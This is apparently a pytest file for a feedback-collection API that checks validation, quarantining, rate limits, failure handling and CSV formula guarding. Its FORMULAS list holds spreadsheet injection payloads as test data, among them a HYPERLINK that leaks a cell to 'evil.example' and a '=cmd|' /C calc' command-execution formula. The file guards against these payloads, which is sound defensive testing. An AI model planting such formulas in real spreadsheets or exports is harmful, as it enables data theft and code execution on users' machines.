"""POST /feedback and /save-feedback: triage, status codes, bounds, volume, failures."""

from __future__ import annotations

import base64
import csv
import errno
import json
import os
from concurrent.futures import ThreadPoolExecutor
from pathlib import Path

import pytest
from fastapi.testclient import TestClient

from emotion_clf.data import feedback as feedback_module
from emotion_clf.data import submission as submission_module
from emotion_clf.data.loader import load_dataset
from emotion_clf.files import write_atomic
from emotion_clf.monitoring.performance import read_feedback
from emotion_clf.serving.http.routes import feedback as feedback_route
from tests.data.test_feedback import row
from tests.serving.helpers import build_app


def test_feedback_route_and_the_legacy_name(client: TestClient, home: Path) -> None:
    response = client.post("/feedback", json={"items": [row(0)], "source": "unit test"})
    assert response.status_code == 200, response.text
    body = response.json()
    assert body["success"] is True and body["record_count"] == 1
    assert (home / "feedback" / body["filename"]).is_file()

    item = {k: v for k, v in row(1).items() if k != "sub_emotion"}
    item.update({"sub-emotion": "joy", "start_time": "00:00:01", "end_time": "00:00:02"})
    legacy = {"videoTitle": "a video", "feedbackData": [item]}  # what existing clients send
    response = client.post("/save-feedback", json=legacy)
    assert response.status_code == 200, response.text
    assert len(load_dataset(home / "feedback")) == 2


@pytest.mark.parametrize(
    ("payload", "fragment"),
    [
        ({"items": [row(0, emotion="joyful")]}, "allowed values: anger, disgust"),
        ({"items": [row(0, text="   ")]}, "items[0].text is empty or missing"),
        ({"items": [row(0, text="x" * 2001)]}, "items[0].text is 2001 characters long"),
        ({"items": [{"text": "only text"}]}, "items[0].emotion is missing or not text"),
        ({"items": [row(0, intensity=3)]}, "items[0].intensity is missing or not text"),
        ({"items": [row(0, start_time=1e308)]}, "items[0].start_time must be a finite number"),
        ({"items": [row(0, end_time="1e308")]}, "items[0].end_time must be a finite number"),
        ({"items": [row(0, start_time="99999:00:00")]}, "items[0].start_time '99999:00:00'"),
    ],
)
def test_a_submission_whose_rows_are_all_quarantined_is_a_2xx_not_an_error(
    client: TestClient, home: Path, payload: object, fragment: str
) -> None:
    # every row is kept (in quarantine): an error status would make a client say "failed"
    # and its user send the same rows again
    response = client.post("/feedback", json=payload)
    assert response.status_code == 202, response.text
    body = response.json()
    assert body["success"] is True and body["record_count"] == 0 and body["filename"] is None
    assert [r["status"] for r in body["rows"]] == ["quarantined"]
    assert fragment in body["rows"][0]["reason"] and fragment in body["message"]
    folder = home / "feedback"
    assert list(folder.glob("*.csv")) == []  # nothing training-ready
    [kept] = list((folder / "quarantine").glob("*.jsonl"))
    assert body["quarantine_file"] == kept.name
    [entry] = [json.loads(line) for line in kept.read_text().splitlines()]
    assert fragment in entry["reason"] and entry["item"] == payload["items"][0]  # type: ignore[index]
    sent = json.loads((folder / body["submission_file"]).read_text())
    assert sent["items"] == payload["items"]  # type: ignore[index]


@pytest.mark.parametrize(
    ("payload", "fragment", "field"),
    [
        ({"items": []}, "a list of at least one row is required", "items"),
        ({}, "items (or feedbackData)", "items"),
        ([1, 2], "the body is not a JSON object", "body"),
    ],
)
def test_a_body_that_is_no_submission_is_refused_and_kept_in_quarantine(
    client: TestClient, home: Path, payload: object, fragment: str, field: str
) -> None:
    response = client.post("/feedback", json=payload)
    assert response.status_code == 422
    body = response.json()
    assert fragment in body["detail"] and body["record_count"] == 0 and body["field"] == field
    folder = home / "feedback"
    assert list(folder.glob("*.csv")) == []
    [kept] = list((folder / "quarantine").glob("*.jsonl"))
    assert body["quarantine_file"] == kept.name
    assert json.loads(json.loads(kept.read_text())["item"]) == payload  # the body, as sent


def test_rows_that_do_not_fit_are_quarantined_and_the_rest_saved(
    client: TestClient, home: Path
) -> None:
    # what the original web client sends: its own sub-emotions, empty segments, other parents
    legacy = {
        "videoTitle": "a talk show",
        "feedbackData": [
            {"start_time": "00:00:01,000", "end_time": "00:00:02,000", "text": "I love you all",
             "emotion": "happiness", "sub-emotion": "love", "intensity": "intense"},
            {"text": "How dare they", "emotion": "anger", "sub-emotion": "rage",
             "intensity": "strong"},
            {"text": "", "emotion": "neutral", "sub-emotion": "neutral", "intensity": "mild"},
            {"text": "What if it fails", "emotion": "fear", "sub-emotion": "worry",
             "intensity": "moderate"},
            {"text": "Oh no", "emotion": "sadness", "sub-emotion": "fear", "intensity": "mild"},
            {"text": "Thanks!", "emotion": "happiness", "sub-emotion": "gratitude",
             "intensity": "mild", "id": 17},
        ],
    }  # fmt: skip
    response = client.post("/save-feedback", json=legacy)
    assert response.status_code == 200, response.text
    body = response.json()
    assert (body["record_count"], body["quarantined"]) == (2, 4)
    assert [r["status"] for r in body["rows"]] == [
        "saved", "quarantined", "quarantined", "quarantined", "quarantined", "saved",
    ]  # fmt: skip
    reasons = {r["index"]: r["reason"] for r in body["rows"] if r["reason"]}
    assert "unknown sub-emotion 'rage'" in reasons[1]
    assert "items[2].text is empty" in reasons[2]
    assert "unknown sub-emotion 'worry'" in reasons[3]
    assert "belongs to emotion 'fear', not 'sadness'" in reasons[4]
    folder = home / "feedback"
    assert load_dataset(folder).texts == ["I love you all", "Thanks!"]  # training reads these
    kept = [
        json.loads(x)
        for x in (folder / "quarantine" / body["quarantine_file"]).read_text().splitlines()
    ]
    assert [k["index"] for k in kept] == [1, 2, 3, 4]
    assert kept[0]["item"]["sub-emotion"] == "rage" and kept[0]["source"] == "a talk show"
    assert body["filename"].removesuffix(".csv") == body["quarantine_file"].removesuffix(".jsonl")


def test_a_body_that_is_not_json_is_kept_too(client: TestClient, home: Path) -> None:
    response = client.post(
        "/feedback", content=b"text=hello&emotion=joy", headers={"content-type": "application/json"}
    )
    assert response.status_code == 422 and "the body is not JSON" in response.json()["detail"]
    [kept] = list((home / "feedback" / "quarantine").glob("*.jsonl"))
    assert json.loads(kept.read_text())["item"] == "text=hello&emotion=joy"


def test_a_lone_surrogate_is_refused_by_name_and_the_body_kept(
    client: TestClient, home: Path
) -> None:
    body = (
        b'{"items": [{"text": "fine", "emotion": "happiness", "sub_emotion": "joy", '
        b'"intensity": "mild"}, {"text": "\\ud800 hi", "emotion": "happiness", '
        b'"sub_emotion": "joy", "intensity": "mild"}]}'
    )
    response = client.post("/feedback", content=body, headers={"content-type": "application/json"})
    assert response.status_code == 422, response.text
    assert "items[1].text (character 0): not valid Unicode" in response.json()["detail"]
    [kept] = list((home / "feedback" / "quarantine").glob("*.jsonl"))
    assert json.loads(kept.read_text())["item"] == body.decode("ascii")


def test_fifty_concurrent_submissions_all_land_row_for_row(client: TestClient, home: Path) -> None:
    def submit(i: int) -> int:
        items = [row(i * 10 + j) for j in range(i % 4 + 1)]
        response = client.post("/feedback", json={"items": items})
        assert response.status_code == 200, response.text
        return len(items)

    with ThreadPoolExecutor(max_workers=16) as pool:
        sent = sum(pool.map(submit, range(50)))
    folder = home / "feedback"
    assert len(list(folder.glob("*.csv"))) == len(list(folder.glob("*.json"))) == 50
    assert not [p for p in folder.iterdir() if p.suffix not in (".csv", ".json")]
    data = load_dataset(folder)
    assert len(data) == sent
    expected = {
        f'Feedback number {i * 10 + j}, with "quotes", commas\nand a newline'
        for i in range(50)
        for j in range(i % 4 + 1)
    }
    assert set(data.texts) == expected


# -- bodies that once were 500s -------------------------------------------------------------
@pytest.mark.parametrize(
    ("body", "fragment"),
    [
        (b"[" * 100_000 + b"]" * 100_000, "more than 32 levels deep"),  # RecursionError
        (b'{"items": [' * 40 + b"]}" * 40, "more than 32 levels deep"),
        (b'{"items": [{"text": "hi", "n": 1' + b"0" * 5000 + b"}]}", "has 5001 digits"),
        (b'{"items": [{"text": "hi", "start_time": 1e999}]}', "1e999 is out of range"),
        (b'{"items": [{"text": "hi", "start_time": NaN}]}', "NaN is not a JSON number"),
    ],
)
@pytest.mark.parametrize("route", ["/feedback", "/save-feedback"])
def test_bodies_beyond_bounds_are_a_422_naming_why_and_kept(
    client: TestClient, home: Path, route: str, body: bytes, fragment: str
) -> None:
    response = client.post(route, content=body, headers={"content-type": "application/json"})
    assert response.status_code == 422, response.text
    answer = response.json()
    assert fragment in answer["detail"] and answer["field"] == "body"
    [kept] = list((home / "feedback" / "quarantine").glob("*.jsonl"))
    assert json.loads(kept.read_text())["item"] == body.decode()  # the body, byte for byte


def test_a_body_that_is_not_utf8_is_kept_byte_for_byte(client: TestClient, home: Path) -> None:
    body = '{"items": [{"text": "caf\xe9"}]}'.encode("latin-1")
    response = client.post("/feedback", content=body, headers={"content-type": "application/json"})
    assert response.status_code == 422 and "not UTF-8" in response.json()["detail"]
    [kept] = list((home / "feedback" / "quarantine").glob("*.jsonl"))
    assert base64.b64decode(json.loads(kept.read_text())["item"]["base64"]) == body


# -- spreadsheet formulas -------------------------------------------------------------------
FORMULAS = [
    '=HYPERLINK("http://evil.example/?leak="&A1, "click me")',
    "+1+2",
    "-2+3 is what she said",
    "@SUM(1,2)",
    "\t=cmd|' /C calc'!A0",  # a TAB that protected a formula (it is stripped like any space)
    "'Tis the season",  # starts with a quote, legitimately
    "'=not a formula, quoted",
    "''",
    "- Hello there, a subtitle's dialogue dash",
]


def test_formulas_are_guarded_in_the_csv_and_read_back_exactly(
    client: TestClient, home: Path
) -> None:
    items = [row(0, text=text, start_time=None, end_time=None) for text in FORMULAS]
    response = client.post("/feedback", json={"items": items, "source": "=cmd()"})
    assert response.status_code == 200, response.text
    answer = response.json()
    folder = home / "feedback"
    with (folder / answer["filename"]).open(newline="", encoding="utf-8") as handle:
        cells = [r[2] for r in list(csv.reader(handle))[1:]]
    assert not [c for c in cells if c.startswith(("=", "+", "-", "@", "\t", "\r"))]
    assert cells[0].startswith("'=HYPERLINK(") and cells[4] == "'=cmd|' /C calc'!A0"
    assert cells[5] == "'Tis the season" and cells[6] == "''=not a formula, quoted"
    # training and the performance report read the text the models see: stripped, unguarded
    assert load_dataset(folder).texts == [t.strip() for t in FORMULAS]
    assert read_feedback(folder).dataset.texts == [t.strip() for t in FORMULAS]
    # and the submission's JSON form keeps each text exactly as it was sent, TAB included
    sent = json.loads((folder / answer["submission_file"]).read_text(encoding="utf-8"))
    assert [i["text"] for i in sent["items"]] == FORMULAS and sent["source"] == "=cmd()"


# -- volume per client ----------------------------------------------------------------------
def test_a_flood_from_one_client_is_a_429_with_retry_after_and_nothing_saved(home: Path) -> None:
    app = build_app(home, feedback_max_submissions_per_minute=3)
    with TestClient(app, raise_server_exceptions=False) as client:
        answers = [
            client.post(route, json={"items": [row(i)]})
            for i, route in enumerate(["/feedback", "/save-feedback"] * 3)
        ]
    assert [a.status_code for a in answers] == [200, 200, 200, 429, 429, 429]
    refused = answers[3]
    assert 1 <= int(refused.headers["retry-after"]) <= 60
    assert "NOT saved" in refused.json()["detail"]
    assert len(load_dataset(home / "feedback")) == 3


def test_bytes_a_minute_are_limited_too(home: Path) -> None:
    app = build_app(home, feedback_max_bytes_per_minute=2000)
    big = {"items": [row(0, text="x" * 1500)]}
    with TestClient(app, raise_server_exceptions=False) as client:
        first = client.post("/feedback", json=big)
        second = client.post("/feedback", json=big)
        small = client.post("/feedback", json={"items": [row(1, text="ok")]})
    assert (first.status_code, second.status_code, small.status_code) == (200, 429, 200)
    assert "EMOTION_CLF_FEEDBACK_MAX_BYTES_PER_MINUTE" in second.json()["detail"]


# -- failures after the body was read -------------------------------------------------------
def _failing_writes(
    monkeypatch: pytest.MonkeyPatch, code: int, *, only: str | None = None
) -> list[str]:
    """Make the feedback writers fail with ``code`` (for names ending in ``only``)."""
    failed: list[str] = []

    def write(path: Path, data: bytes | str, **kwargs: object) -> Path:
        if only is None or path.name.endswith(only):
            failed.append(path.name)
            raise OSError(code, os.strerror(code), str(path))
        return write_atomic(path, data)

    monkeypatch.setattr(feedback_module, "write_atomic", write)
    monkeypatch.setattr(submission_module, "write_atomic", write)
    return failed


def test_a_full_disk_is_a_507_that_says_nothing_was_kept(
    client: TestClient, home: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    failed = _failing_writes(monkeypatch, errno.ENOSPC)
    response = client.post("/feedback", json={"items": [row(0), row(1, emotion="x")]})
    assert response.status_code == 507, response.text
    body = response.json()
    assert "out of disk space" in body["detail"] and "NOT saved" in body["detail"]
    assert body["kept"] is False and body["request_id"]
    assert failed  # the save was tried, then keeping the body was
    assert not [p for p in (home / "feedback").rglob("*") if p.is_file()]  # no half-written file


@pytest.mark.parametrize(("code", "why"), [(errno.ENOSPC, "out of disk space"), (errno.EIO, "")])
def test_a_failed_save_keeps_the_whole_body_in_quarantine_and_answers_202(
    client: TestClient,
    home: Path,
    monkeypatch: pytest.MonkeyPatch,
    code: int,
    why: str,
) -> None:
    _failing_writes(monkeypatch, code, only=".csv")  # the last write of a submission
    payload = {"items": [row(0), row(1, emotion="x")], "source": "a video"}
    response = client.post("/feedback", json=payload)
    assert response.status_code == 202, response.text
    body = response.json()
    assert body["success"] is True and body["record_count"] == 0 and body["quarantined"] == 2
    assert why in body["message"] and "do not send it again" in body["message"]
    folder = home / "feedback"
    [kept] = list((folder / "quarantine").glob("*.jsonl"))
    entry = json.loads(kept.read_text())  # one entry, the whole body: the partial files are gone
    assert entry["index"] == -1 and json.loads(entry["item"]) == payload
    assert [p.name for p in folder.iterdir()] == ["quarantine"]


def test_a_bug_in_triage_keeps_the_body_and_logs_the_traceback(
    client: TestClient,
    home: Path,
    monkeypatch: pytest.MonkeyPatch,
    caplog: pytest.LogCaptureFixture,
) -> None:
    def broken(*args: object, **kwargs: object) -> None:
        raise RuntimeError("a bug")

    monkeypatch.setattr(submission_module, "triage", broken)
    response = client.post("/feedback", json={"items": [row(0)]})
    assert response.status_code == 202, response.text
    request_id = response.headers["x-request-id"]
    assert f"request {request_id}" in response.json()["rows"][0]["reason"]
    [kept] = list((home / "feedback" / "quarantine").glob("*.jsonl"))
    assert json.loads(json.loads(kept.read_text())["item"]) == {"items": [row(0)]}
    assert any(r.exc_info and "a bug" in str(r.exc_info[1]) for r in caplog.records)


def test_a_bug_in_reading_the_body_keeps_it_too(
    client: TestClient, home: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    def broken(body: bytes) -> None:
        raise RuntimeError("a bug")

    monkeypatch.setattr(feedback_route, "loads_bounded", broken)
    response = client.post("/feedback", json={"items": [row(0)]})
    assert response.status_code == 202, response.text
    assert response.json()["rows"] == [] and "kept whole" in response.json()["message"]
    [kept] = list((home / "feedback" / "quarantine").glob("*.jsonl"))
    assert json.loads(json.loads(kept.read_text())["item"]) == {"items": [row(0)]}


def test_an_unwritable_folder_is_a_503_that_says_nothing_was_kept(
    client: TestClient, monkeypatch: pytest.MonkeyPatch
) -> None:
    _failing_writes(monkeypatch, errno.EROFS)
    for body in ({"items": [row(0)]}, {"items": []}):  # a submission, and a body that is none
        response = client.post("/feedback", json=body)
        assert response.status_code == 503, response.text
        assert "NOT saved" in response.json()["detail"] and response.json()["kept"] is False
